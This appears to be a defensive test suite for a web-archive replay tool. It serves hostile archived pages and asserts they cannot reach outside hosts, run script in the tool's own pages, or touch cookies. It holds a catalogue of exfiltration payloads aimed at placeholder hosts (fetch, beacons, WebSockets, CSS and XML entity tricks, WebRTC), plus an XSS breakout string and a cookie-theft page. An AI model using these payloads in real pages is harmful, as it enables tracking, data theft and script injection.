// An archive made to attack its reader.  Each page tries one thing; what left the machine is read from Chromium's net log.
// What remains is shown here to remain, so that docs/security stays true and the log is seen to see.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hostsAsked, outside, serve, short, whole, writeArchive } from "./harness.js";

const time = "2010-04-12T06:00:00Z", stamp = "20100412060000";
// Each way out leads to a host of its own, NAME.live.invalid, which no resolver knows: asking for it is what must not happen.
const live = "live.invalid";
const script = (code) => `<!doctype html><title>p</title><p id=p>page</p><script>${code}</script>`;
// hides a URL from rewriting, as a hostile page would; "loc"+"ation" hides that name
const far = (name, scheme = "https:") => `(${JSON.stringify(scheme)}+["/","/"].join("")+"${name}.live"+".invalid"+"/x")`;
const markup = (make) => script(`document.documentElement.insertAdjacentHTML("beforeend", ${make});`);
// a window of its own, which no script of ours has touched
const fresh = (code) => script(`const f=document.createElement("iframe");f.srcdoc="<script>"+${JSON.stringify(code)}+"</scr"+"ipt>";document.body.append(f)`);

const leaks = {
	"fetch": script(`fetch(${far("fetch")}).catch(()=>0)`),
	"fetch of a fresh window": fresh(`fetch(${far("fresh")}).catch(()=>0)`),
	"request object": script(`fetch(new Request(${far("request")},{mode:"no-cors"})).catch(()=>0)`),
	"location as scripts write it": script(`top.location=${far("location-plain")}`),
	"xhr": script(`const x=new XMLHttpRequest();x.open("GET",${far("xhr")});x.send()`),
	"xhr of a fresh window": fresh(`const x=new XMLHttpRequest();x.open("GET",${far("xhr2")});x.send()`),
	"beacon of a fresh window": fresh(`navigator.sendBeacon(${far("beacon2")},"x")`),
	"beacon": script(`Navigator.prototype.sendBeacon.call(navigator,${far("beacon")},"x")`),
	"event source": script(`new EventSource(${far("events")})`),
	"web socket": script(`new WebSocket(${far("socket", "wss:")})`),
	"image": script(`const i=new Image();i.setAttributeNS(null,"src",${far("image")});document.body.append(i)`),
	"image by markup": markup(`"<img src="+${far("image2")}+" srcset="+${far("image3")}+">"`),
	"style": markup(`"<link rel=stylesheet href="+${far("style")}+">"`),
	"style import": markup(`"<style>@import url("+${far("import")}+");</style>"`),
	"background": markup(`"<p style='background:url("+${far("background")}+")'>x"`),
	"image-set": markup(`"<style>p{background:image-set(\\""+${far("set")}+"\\" 1x)}</style>"`),
	"font": markup(`"<style>@font-face{font-family:z;src:url("+${far("font")}+")}p{font-family:z}</style>"`),
	"script": script(`const s=document.createElement("script");s.setAttributeNS(null,"src",${far("script")});document.body.append(s)`),
	"module": script(`import(${far("module")}).catch(()=>0)`),
	"worker": script(`try{new Worker(URL.createObjectURL(new Blob(["importScripts("+JSON.stringify(${far("worker")})+")"])))}catch{}`),
	"worker fetch": script(`try{new Worker(URL.createObjectURL(new Blob(["fetch("+JSON.stringify(${far("workerfetch")})+")"])))}catch{}`),
	"object": markup(`"<object data="+${far("object")}+"></object><embed src="+${far("embed")}+">"`),
	"media": markup(`"<video src="+${far("video")}+" poster="+${far("poster")}+"></video><audio src="+${far("audio")}+"></audio>"`),
	"svg": markup(`"<svg><image href="+${far("svg")}+" /><use href="+${far("use")}+"#x /></svg>"`),
	"icon and manifest": markup(`"<link rel=icon href="+${far("icon")}+"><link rel=manifest href="+${far("manifest")}+">"`),
	"prefetch": markup(`"<link rel=prefetch href="+${far("prefetch")}+">"`),
	"preload": markup(`"<link rel=preload as=script href="+${far("preload")}+"><link rel=modulepreload href="+${far("modulepreload")}+">"`),
	"prerender": markup(`"<link rel=prerender href="+${far("prerender")}+">"`),
	"preconnect": markup(`"<link rel=preconnect href="+${far("preconnect")}+">"`),
	"preconnect written": `<!doctype html><title>p</title><link rel=preconnect href=https://a.${live}/x><link rel="dns-prefetch preconnect" href=//b.${live}/x><p>x`,
	"dns prefetch": markup(`"<link rel=dns-prefetch href="+${far("dns")}+">"`),
	"dns prefetch of a link": `<!doctype html><title>p</title><meta http-equiv=x-dns-prefetch-control content=on><p>${`<a id=a>x</a>`}<script>document.getElementById("a").setAttributeNS(null,"href",${far("anchor")})</script>`,
	"form written": `<!doctype html><title>p</title><form id=f method=post action=https://form2.${live}/x><input name=q value=1></form><script>HTMLFormElement.prototype.submit.call(document.getElementById("f"))</script>`,
	"meta refresh written": `<!doctype html><title>p</title><meta http-equiv=refresh content="0;url=https://refresh.${live}/x"><p>x`,
	"base": `<!doctype html><title>p</title><base href="https://base.${live}/x/"><img src=x.png><p>x`,
	"popup": script(`window.open(${far("popup")})`),
	"popup of a fresh window": fresh(`window.open(${far("popup2")})`),
	"report": { headers: [["Reporting-Endpoints", `d="https://r.${live}/x"`], ["Report-To", `{"group":"d","max_age":99,"endpoints":[{"url":"https://rt.${live}/x"}]}`], ["NEL", '{"report_to":"d","max_age":99,"success_fraction":1}'], ["Content-Security-Policy-Report-Only", `default-src 'none'; report-uri https://csp.${live}/x`]], body: script("eval('1')") },
	"link header": { headers: [["Link", `<https://h-css.${live}/x>; rel=preload; as=style, <https://link-header.${live}>; rel=preconnect`], ["Refresh", `0; url=https://hr.${live}/x`]], body: "<!doctype html><title>p</title><p>x" },
};
// XML in which names that it declares, and defaults of attributes, make what no rewriting sees.
const xhtml = (declared, head) => ({ type: "application/xhtml+xml", body: `<!DOCTYPE html [${declared}]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>p</title>${head}</head><body><p>x</p></body></html>` });
Object.assign(leaks, {
	"refresh by a name": xhtml(`<!ENTITY e "https://name.${live}/x">`, '<meta http-equiv="refresh" content="0;url=&e;"/>'),
	"refresh by a declared element": xhtml(`<!ENTITY e '<meta http-equiv="refresh" content="0;url=https://element.${live}/x"/>'>`, "&e;"),
	"refresh by defaults": xhtml(`<!ATTLIST meta http-equiv CDATA "refresh" content CDATA "0;url=https://default.${live}/x">`, "<meta/>"),
	"refresh under a prefix": xhtml("", `<_h:meta xmlns:_h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://prefix.${live}/x"/>`),
	"refresh inside a style": xhtml("", `<style>p { color: red }<meta http-equiv="refresh" content="0;url=https://style-meta.${live}/x"/></style>`),
	"refresh in a feed": { type: "application/xml", body: `<rss xmlns:h="http://www.w3.org/1999/xhtml"><h:meta http-equiv="refresh" content="0;url=https://feed.${live}/x"/></rss>` },
	"frame by a name": xhtml(`<!ENTITY e "https://frame-name.${live}/x">`, '<iframe src="&e;"></iframe>'),
});
// A frame of another place is refused, but only after Chromium has opened a connection to it: no request follows.
const ahead = {
	"frame": markup(`"<iframe src="+${far("frame")}+"></iframe>"`),
	"form": script(`const f=document.createElement("form");f.setAttributeNS(null,"action",${far("form")});document.body.append(f);HTMLFormElement.prototype.submit.call(f)`),
};
// These remain, and docs/security says so: at the top a page may navigate itself and ask Chromium to prepare for that; WebRTC knows no policy.
const remaining = {
	"location at the top": script(`window["loc"+"ation"]=${far("location-top")}`),
	"speculation rules": script(`const s=document.createElement("script");s.type="speculationrules";s.text=JSON.stringify({prefetch:[{urls:[${far("rules")}]}],prerender:[{urls:[${far("rules2")}]}]});document.head.append(s)`),
	"web rtc": script(`const c=new RTCPeerConnection({iceServers:[{urls:"stun:"+new URL(${far("rtc")}).hostname+":3478"}]});c.createDataChannel("x");window.done=new Promise((r)=>{c.onicegatheringstatechange=()=>c.iceGatheringState==="complete"&&r()});c.createOffer().then((o)=>c.setLocalDescription(o))`),
};
// Only a frame can stop these: at the top a page may navigate itself.
const framed = {
	"location": script(`window["loc"+"ation"]=${far("location")}`),
	"meta refresh": markup(`"<meta http-equiv=refresh content='0;url="+${far("refresh")}+"'>"`),
	"top": script(`try{top["loc"+"ation"]=${far("top")}}catch{}`),
	"parent": script(`try{parent["loc"+"ation"].href=${far("parent")}}catch{}`),
	"link clicked by script": script(`const a=document.createElement("a");a.setAttributeNS(null,"href",${far("a")});a.setAttribute("ping",${far("ping")});document.body.append(a);a.click()`),
	"link to the top clicked by script": script(`const a=document.createElement("a");a.target="_top";a.setAttributeNS(null,"href",${far("t")});document.body.append(a);a.click()`),
	"link to a new window clicked by script": script(`const a=document.createElement("a");a.target="_blank";a.setAttributeNS(null,"href",${far("b")});document.body.append(a);a.click()`),
};
const slug = (name) => name.replace(/\W/g, "-");
const url = (name) => `http://evil.example/${slug(name)}`;
const bad = `</script></title></textarea>"'><img src=x onerror=window.pwned=1><script>window.pwned=1</script>\u202e`;
const pages = {
	...leaks, ...ahead, ...framed, ...remaining,
	"strings": `<!doctype html><html lang='${encodeURIComponent(bad)}'><title>${bad.replace("</title>", "&lt;/title>")}</title><meta name=description content='${bad.replaceAll("'", "&#39;")}'><p>expense ${bad.replaceAll("<", "&lt;")} report of the year with words enough to be found.`,
	"cookies": { headers: [["Set-Cookie", "winnow=stolen; Path=/"], ["Set-Cookie", "token=x; Path=/c/"], ["Clear-Site-Data", '"*"']], body: script(`try{document.cookie="winnow=shadow; path=/"}catch{};window.read=(()=>{try{return document.cookie}catch(e){return "refused"}})()`) },
	"worker registered": script(`window.done=(async()=>{try{const n=Object.getOwnPropertyDescriptor(Navigator.prototype,"serviceWorker");await n.get.call(navigator).register("/e/${stamp}js_/http://evil.example/sw.js");return "registered"}catch(e){return "refused"}})()`),
	"banner": script(`try{parent.postMessage({title:"forged",url:"http://bank.example/"},"*")}catch{};try{parent.document.title="forged";window.got="in"}catch{window.got="refused"}`),
};
let s, scratch;

before(async () => {
	scratch = mkdtempSync(join(tmpdir(), "winnow-hostile-"));
	const captures = Object.entries(pages).map(([name, p]) => ({ url: url(name), time, ...(typeof p === "string" ? { body: p } : p) }));
	captures.push({ url: "http://evil.example/sw.js", time, type: "text/javascript", body: "self.onfetch=()=>{}" }, { url: "http://evil.example/as-ui.js", time, type: "text/javascript", body: "window.pwned=1" });
	captures.push({ url: `http://evil.example/?${encodeURIComponent(bad)}`, time, type: `text/html; charset="${"<b>"}"`, body: `<title>${bad.replace("</title>", "")}</title>expense again` });
	captures.push({ url: url("strings"), time: "2011-04-12T06:00:00Z", body: pages.strings + " And one more word." });
	writeArchive(join(scratch, "hostile.warc"), captures);
	s = await serve({ e: [join(scratch, "hostile.warc")] });
	s.winnow("reduce", join(s.directory, "e"), "--preset", "journalist", "--quiet");
});
after(() => {
	s?.stop();
	if (scratch) rmSync(scratch, { recursive: true, force: true });
});

// The frame of a page, whether it is the top or inside winnow's own.
async function open(browser, name, where) {
	const page = await (await browser.newContext()).newPage();
	await page.goto(where === "framed" ? `${s.origin}/e/${stamp}/${url(name)}` : `${s.origin}/e/${stamp}mp_/${url(name)}`, { waitUntil: "commit" });
	await page.waitForLoadState("networkidle", { timeout: 5000 }).catch(() => 0); // some pages never rest
	await page.evaluate(() => window.done).catch(() => 0); // others say when they are through
	return page;
}

const opened = async (names, where) => {
	const wrong = [];
	const { hosts } = await hostsAsked(async (browser) => {
		const left = [...names];
		const one = async () => {
			for (let name; (name = left.shift()); ) {
				const page = await open(browser, name, where);
				if (page.context().pages().length !== 1) wrong.push(`${name}: another window`);
				if (where === "framed" && page.url() !== `${s.origin}/e/${stamp}/${url(name)}`) wrong.push(`${name}: at ${page.url()}`);
				await page.context().close();
			}
		};
		await Promise.all([one(), one(), one(), one()]); // most of the time is spent waiting for pages to rest
	});
	return [...wrong, ...outside(hosts)];
};

for (const where of short ? ["framed"] : ["framed", "at the top"])
	test(`none of ${Object.keys(leaks).length} ways leads out, ${where}`, { timeout: 300000 }, async () => {
		assert.deepEqual(await opened(Object.keys(leaks), where), []);
	});

test("a framed page navigates neither itself nor the window out", { timeout: 300000 }, async () => {
	const left = await opened(Object.keys({ ...ahead, ...framed }), "framed");
	assert.deepEqual(left.filter((l) => !l.endsWith(" (connection)")), []);
});

for (const name of Object.keys(remaining))
	whole(`what remains: ${name}`, async () => {
		assert.notDeepEqual(await opened([name], "at the top"), [], "it is gone: let docs/security say so, and put it among the others");
	});

test("archived strings run nothing on any page of winnow", async () => {
	const { result } = await hostsAsked(async (browser) => {
		const page = await (await browser.newContext()).newPage();
		await page.goto(s.start);
		const found = [];
		for (const path of ["/", "/c/e", "/c/e/search?q=expense", `/c/e/search?q=${encodeURIComponent(bad)}`, "/c/e/covers", "/c/e/covers/1", "/c/e/covers/1/dropped", "/c/e/rules/new?preset=journalist", `/c/e/rules/new?rule=${encodeURIComponent(bad)}`,
			`/e/*/${url("strings")}`, `/e/*/http://evil.example/?${encodeURIComponent(bad)}`, `/e/${stamp}/${url("strings")}`, "/jobs"]) {
			await page.goto(s.origin + path);
			await page.waitForLoadState("networkidle");
			if (await page.evaluate(() => window.pwned)) found.push(path);
			if (await page.locator("img[src=x]").count()) found.push(`${path}: an element`);
		}
		const ids = s.winnow("ls", join(s.directory, "e"), "--where", 'url = "http://evil.example/strings"', "--fields", "id", "--format", "tsv").trim().split("\n").filter((x) => /^\d+$/.test(x));
		for (const path of [`/c/e/diff/${ids[0]}..${ids[1]}`, `/c/e/covers/1/doc/${ids[0]}`]) {
			const answer = await page.goto(s.origin + path);
			assert.equal(answer.status(), 200, path);
			if (await page.evaluate(() => window.pwned) || await page.locator("img[src=x]").count()) found.push(path);
		}
		return found;
	});
	assert.deepEqual(result, []);
});

test("an archived script does not run as winnow's page, even when that page names it", async () => {
	const { result } = await hostsAsked(async (browser) => {
		const page = await (await browser.newContext()).newPage();
		await page.goto(s.start);
		return page.evaluate(async (src) => {
			const e = document.createElement("script");
			e.src = src;
			const end = new Promise((resolve) => { e.onload = () => resolve("ran"); e.onerror = () => resolve("refused"); });
			document.head.append(e);
			return [await end, window.pwned ?? null];
		}, `${s.origin}/e/${stamp}js_/http://evil.example/as-ui.js`);
	});
	assert.deepEqual(result, ["refused", null]);
});

test("cookies are neither read, set, shadowed nor cleared", async () => {
	const { result } = await hostsAsked(async (browser) => {
		const context = await browser.newContext(), page = await context.newPage();
		await page.goto(s.start);
		const before = await context.cookies();
		await page.goto(`${s.origin}/e/${stamp}/${url("cookies")}`);
		await page.waitForLoadState("networkidle");
		const read = await page.frames().find((f) => f.url().includes("mp_/")).evaluate(() => window.read);
		return { before, after: await context.cookies(), read };
	});
	assert.equal(result.before.length, 1);
	assert.deepEqual(result.after, result.before);
	assert.ok(!result.read.includes(result.before[0].value));
});

test("no service worker is registered", async () => {
	const { result } = await hostsAsked(async (browser) => {
		const page = await open(browser, "worker registered", "at the top");
		return page.evaluate(() => window.done);
	});
	assert.equal(result, "refused");
	const answer = await fetch(`${s.origin}/e/${stamp}js_/http://evil.example/sw.js`, { headers: { "Service-Worker": "script" } });
	assert.equal(answer.status, 403);
});

test("the banner cannot be forged", async () => {
	const { result } = await hostsAsked(async (browser) => {
		const page = await open(browser, "banner", "framed");
		return { title: await page.title(), banner: await page.textContent(".banner"), got: await page.frames().find((f) => f.url().includes("mp_/")).evaluate(() => window.got) };
	});
	assert.ok(!/forged|bank\.example/.test(result.title + result.banner), result.banner);
	assert.match(result.banner, /evil\.example\/banner/);
	assert.equal(result.got, "refused");
});
